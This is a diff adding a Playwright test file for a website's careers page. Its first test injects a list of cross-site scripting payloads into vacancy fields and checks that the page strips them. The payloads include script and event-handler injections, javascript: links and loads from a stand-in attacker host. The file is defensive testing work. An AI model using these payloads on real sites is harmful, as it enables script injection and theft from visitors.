@@ -1,0 +1,188 @@
+import { AxeBuilder } from '@axe-core/playwright';
+import { expect, type Page } from '@playwright/test';
+import { answerOf, demoCareers, demoJobs } from './support/careers';
+import { expectErrorPage } from './support/error-page';
+import { test } from './support/faulty-site';
+import { sideways } from './support/layout';
+
+// What the hub may send for the careers page, and what becomes of it (X4, S8).
+
+test.describe.configure({ timeout: 60_000 });
+
+const CALL = /cms-page\/careers/;
+const ENTRANCE = 'https://thief.example.com';
+const BAIT = [
+  `<p onclick="stolen()" onmouseover="stolen()" style="position:fixed;inset:0" class="hidden" id="job-1">Kept words</p>`,
+  '<script>window.stolen = true; document.title = "stolen"</script><ScRiPt src="https://thief.example.com/a.js"></sCrIpT>',
+  `<img src="${ENTRANCE}/a.png" onerror="window.stolen = true"><svg onload="window.stolen = true"><script>window.stolen = true</script></svg>`,
+  `<iframe src="${ENTRANCE}/frame" srcdoc="<script>parent.stolen = true</script>"></iframe><style>body { display: none } @import "${ENTRANCE}/a.css";</style>`,
+  `<link rel="stylesheet" href="${ENTRANCE}/b.css"><base href="${ENTRANCE}/"><meta http-equiv="refresh" content="0;url=${ENTRANCE}">`,
+  `<form action="${ENTRANCE}"><input name="x" autofocus onfocus="window.stolen = true"><button>Send</button></form>`,
+  '<a href="javascript:window.stolen=true">Run</a> <a href="JaVa&#x09;Script:window.stolen=true">Run two</a> <a href="data:text/html,x">Run three</a>',
+  `<a href="https://trade.marram.example.com/x" target="_top" onclick="window.stolen = true">Leave</a>`,
+  '<ul><li>An item</ul><table><tr><td>A cell</td></tr></table><b><i>Both',
+].join('');
+
+const job = (fields: object) => ({ ...demoJobs[0], ...fields });
+
+/** The hub's careers page is the demo's with these fields instead. */
+async function show(
+  page: Page,
+  faulty: { hub: { answer: (call: RegExp, body: unknown) => void }; url: string },
+  fields: object,
+) {
+  faulty.hub.answer(CALL, answerOf({ ...demoCareers, ...fields }));
+  return page.goto(`${faulty.url}/careers`);
+}
+
+test('X4: scripts, styles, frames, forms and links of a vacancy that would do harm do nothing at all', async ({
+  faulty,
+  page,
+}) => {
+  const asked: string[] = [];
+  page.on('request', (request) => asked.push(request.url()));
+  const errors: string[] = [];
+  page.on('pageerror', (error) => errors.push(error.message));
+  const texts = {
+    position_description: BAIT,
+    position_purpose: BAIT,
+    position_requirements: BAIT,
+    position_ideal_candidate: BAIT,
+    position_duties: BAIT,
+    position_contact_instructions: BAIT,
+  };
+  const active = [job({ ...texts, position_display_title: '<img src=x onerror=alert(1)>Weaver</script>' })];
+  await show(page, faulty, {
+    careers: { active },
+    frequent_questions: { active: [{ id: 1, question_heading: '<b>Why?</b>', questions_body: BAIT }] },
+    question_section_description: BAIT,
+    question_section_web_link: 'javascript:window.stolen=true',
+  });
+  for (const summary of await page.getByRole('main').locator('summary').all()) await summary.click();
+  const advert = page.getByRole('main').locator('details').first();
+  await advert.locator('summary').click();
+  await expect(advert.getByText('Kept words').first()).toBeVisible();
+  await expect(advert.getByText('A cell').first()).toBeVisible();
+  await expect(
+    page.getByRole('heading', { level: 2, name: '<img src=x onerror=alert(1)>Weaver</script>' }),
+  ).toBeVisible();
+  await expect(page.getByRole('heading', { level: 3, name: '<b>Why?</b>' })).toBeVisible();
+  const main = page.getByRole('main');
+  const texty = main.locator('.rich-text');
+  await expect(
+    texty.locator('script, style, img, svg, iframe, form, input, button, link, meta, base, table'),
+  ).toHaveCount(0);
+  await expect(texty.locator('[style], [class], [id], [onclick], [onmouseover]')).toHaveCount(0);
+  await expect(main.getByRole('link', { name: /Run|Ask us/ })).toHaveCount(0);
+  await expect(main.getByText('Run two').first()).toBeAttached();
+  const leave = advert.getByRole('link', { name: 'Leave' }).first();
+  await expect(leave).toHaveAttribute('href', 'https://marram.example.com/x');
+  await expect(leave).toHaveAttribute('rel', 'noopener');
+  expect(await page.evaluate(() => 'stolen' in window)).toBe(false);
+  expect(asked.filter((url) => new URL(url).origin !== faulty.url)).toEqual([]);
+  expect(errors).toEqual([]);
+  const { violations } = await new AxeBuilder({ page }).analyze();
+  expect(violations.map((rule) => `${rule.id}: ${rule.nodes[0]?.html}`)).toEqual([]);
+});
+
+test('X4: without published vacancies it says so, in the words of the specification', async ({ faulty, page }) => {
+  const response = await show(page, faulty, {
+    page_title: '',
+    careers: { active: [job({ is_published: false })] },
+    frequent_questions: null,
+    large_media_carousel: [],
+    question_section_title: '',
+    question_section_description: null,
+    question_section_media: null,
+    socials_section_title: null,
+    socials_section_description: 7,
+    socials_section_media: null,
+  });
+  expect(response?.status()).toBe(200);
+  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Join our team');
+  await expect(page.getByText('No current job openings available', { exact: true })).toBeVisible();
+  await expect(page.getByText('Please check back later', { exact: true })).toBeVisible();
+  await expect(page.getByRole('main').locator('details')).toHaveCount(0);
+  await expect(page.getByText('Frequently Asked Questions')).toHaveCount(0);
+  await expect(page.getByRole('region', { name: 'Pictures' })).toHaveCount(0);
+  expect(await page.content()).not.toContain(demoJobs[0]?.position_display_title);
+  const { violations } = await new AxeBuilder({ page }).analyze();
+  expect(violations.map((rule) => rule.id)).toEqual([]);
+});
+
+test('X4: eighty vacancies, a text of 20 000 characters and words without end still make a page', async ({
+  faulty,
+  page,
+}) => {
+  await page.setViewportSize({ width: 320, height: 800 });
+  const long = `<p>${'Cloth and more cloth. '.repeat(910)}</p>`;
+  const endless = 'w'.repeat(300);
+  const active = Array.from({ length: 80 }, (_, place) =>
+    job({
+      id: 1,
+      position_display_title: `Weaver ${place + 1}`,
+      position_description: long.slice(0, place === 0 ? undefined : 400),
+    }),
+  );
+  active.push(
+    job({
+      position_display_title: endless,
+      position_location: endless,
+      position_availability: endless,
+      position_description: `<ul><li>${endless}`,
+    }),
+  );
+  const started = Date.now();
+  await show(page, faulty, {
+    careers: { active },
+    question_section_title: endless,
+    question_section_link_button_text: endless,
+  });
+  expect(Date.now() - started).toBeLessThan(15_000);
+  const panels = page.getByRole('main').locator('details[name=jobs]');
+  await expect(panels).toHaveCount(81);
+  await panels.last().locator('summary').click();
+  await expect(panels.last().getByRole('heading', { level: 3, name: 'Description' })).toBeVisible();
+  expect(await sideways(page)).toBe(0);
+  const ids = await page.locator('[id]').evaluateAll((found) => found.map((element) => element.id));
+  expect(new Set(ids).size).toBe(ids.length);
+});
+
+test('X4: entries of the wrong kind are left out, the rest is shown', async ({ faulty, page }) => {
+  const active = [
+    7,
+    null,
+    'Weaver',
+    { id: 1 },
+    job({ position_location: { a: 1 }, position_duties: 12, position_purpose: [] }),
+  ];
+  await show(page, faulty, {
+    description: 7,
+    banner_media_carousel: 'crop-showroom-wide.webp',
+    careers: { active },
+    frequent_questions: { active: 'none' },
+    large_media_carousel: [{ media_url: 7 }],
+  });
+  await expect(page.getByRole('main').locator('details')).toHaveCount(1);
+  await page.getByRole('main').locator('summary').click();
+  await expect(page.getByRole('main').getByRole('term')).toHaveText(['Position', 'Availability']);
+  await expect(page.getByRole('heading', { level: 3, name: 'Purpose' })).toHaveCount(0);
+});
+
+test('X4, S8: a hub that fails, or has no such page: the error page, whole again with Try Again', async ({
+  faulty,
+  page,
+}) => {
+  for (const [body, status] of [
+    [answerOf(null), 200],
+    [{}, 404],
+    ['down', 500],
+  ] as const) {
+    faulty.hub.answer(CALL, body, status);
+    await expectErrorPage(page, `${faulty.url}/careers`);
+  }
+  expect(faulty.log()).toContain("Failed to load CMS data for page 'careers'");
+  faulty.hub.heal();
+  await page.getByRole('button', { name: 'Try Again' }).click();
+  await expect(page.getByRole('heading', { level: 1, name: demoCareers.page_title })).toBeVisible();
+});
